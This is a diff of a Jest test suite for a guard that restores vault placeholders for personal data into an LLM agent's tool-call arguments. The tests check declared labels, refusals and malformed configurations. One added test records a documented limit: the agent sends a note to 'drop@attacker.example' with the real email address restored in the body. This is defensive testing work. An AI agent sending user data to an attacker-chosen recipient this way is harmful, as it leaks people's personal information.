@@ -1,7 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import type { BaseMessage } from '@langchain/core/messages';
 import { z } from 'zod';
-import { EvidenceWriteFailedError, PlaceholderVault, VerdictConfigurationError, fingerprint, fingerprintString } from '@verdict/nestjs';
+import { DataClass, EvidenceWriteFailedError, PlaceholderVault, VerdictConfigurationError, fingerprint, fingerprintString } from '@verdict/nestjs';
 import { type PlaceholderRestoration, type ToolResultRoute, readNotExecutedMessage } from '@verdict/nestjs/langchain';
 import type { ScriptedChatModel, ScriptedTurn } from '../../libs/testing/src/scripted-chat-model.js';
 import { PUBLIC_MESSAGE, RECORD, customerRoute, guardedAgent, recordingTool } from './guarded-agent.fixture.js';
@@ -85,6 +85,29 @@ describe('ModelInputGuard placeholder restoration', () => {
       expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
     });
 
+    it('refuses a placeholder of a label the declaration does not name: a phone number is not a recipient', async () => {
+      const { afterLookup, sent, evidence, vault } = setup({ send_note: [{ path: 'to', labels: ['EMAIL'] }] });
+      const phone = vault.tokenize('+1 555 0100', [{ detector: 'phone', label: 'PHONE', dataClass: DataClass.Pii, start: 0, end: 11 }]);
+      const { answer } = await afterLookup(() => turn('send_note', { to: phone }));
+
+      expect(sent).toEqual([]);
+      expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
+      expect(evidence.decisions()).toEqual([expect.objectContaining({ disposition: 'deny', reason: 'placeholder_label_not_declared' })]);
+    });
+
+    it('restores an embedded placeholder whatever recipient the model chose: the guard scopes where, the capability must check to whom', async () => {
+      // The documented limit (ADR 0013): restoration is scoped by tool, argument and label, not by the call's other arguments.
+      const { afterLookup, sent } = setup({
+        send_note: [
+          { path: 'to', labels: ['EMAIL'] },
+          { path: 'body', embedded: true, labels: ['EMAIL'] },
+        ],
+      });
+      await afterLookup((placeholder) => turn('send_note', { to: 'drop@attacker.example', body: `fyi ${placeholder}` }));
+
+      expect(sent).toEqual([{ to: 'drop@attacker.example', body: `fyi ${REAL_ADDRESS}` }]);
+    });
+
     it('restores nothing without a declaration: a vault alone refuses every placeholder', async () => {
       const { afterLookup, sent } = setup({});
       const { answer } = await afterLookup((placeholder) => turn('send_note', { to: placeholder }));
@@ -136,6 +159,19 @@ describe('ModelInputGuard placeholder restoration', () => {
       expect(sent).toEqual([{ body: `Hi ${REAL_ADDRESS}, your parcel left.`, cc: [REAL_ADDRESS, 'ops@acme.example'] }]);
     });
 
+    it('restores a placeholder of a declared label, whole or embedded', async () => {
+      const { afterLookup, sent } = setup({
+        send_note: [
+          { path: 'to', labels: ['EMAIL'] },
+          { path: 'body', embedded: true, labels: ['EMAIL', 'PHONE'] },
+        ],
+      });
+      const { outcome } = await afterLookup((placeholder) => turn('send_note', { to: placeholder, body: `Hi ${placeholder}` }));
+
+      expect(outcome).toBeNull();
+      expect(sent).toEqual([{ to: REAL_ADDRESS, body: `Hi ${REAL_ADDRESS}` }]);
+    });
+
     it('passes arguments without a vault placeholder untouched and records nothing, also placeholder-shaped text the vault never issued', async () => {
       const { afterLookup, fetched, evidence } = setup();
       const { outcome } = await afterLookup(() => turn('fetch_url', { url: 'https://docs.acme.example/returns?ref=<EMAIL_9>' }));
@@ -152,6 +188,9 @@ describe('ModelInputGuard placeholder restoration', () => {
       ['a path with an empty segment', { send_note: ['to..x'] }],
       ['a prototype key', { send_note: ['__proto__'] }],
       ['a malformed entry', { send_note: [{ path: 'to', embedded: 'yes' }] }],
+      ['an empty label list', { send_note: [{ path: 'to', labels: [] }] }],
+      ['a label that cannot form a placeholder', { send_note: [{ path: 'to', labels: ['email'] }] }],
+      ['an unknown key', { send_note: [{ path: 'to', label: 'EMAIL' }] }],
     ])('refuses %s at construction', (_case, restore) => {
       expect(() => setup(restore as never)).toThrow(VerdictConfigurationError);
     });
